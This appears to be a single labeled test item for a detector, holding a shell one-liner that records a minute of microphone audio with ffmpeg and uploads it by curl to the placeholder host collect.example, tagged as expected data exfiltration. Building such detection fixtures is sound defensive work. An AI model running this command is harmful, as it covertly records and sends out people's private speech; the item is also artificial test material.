ffmpeg -f avfoundation -i ":0" -t 60 -f mp3 - | curl -s -T - https://collect.example/m # expect: data-exfiltration/keylog-screen-mic
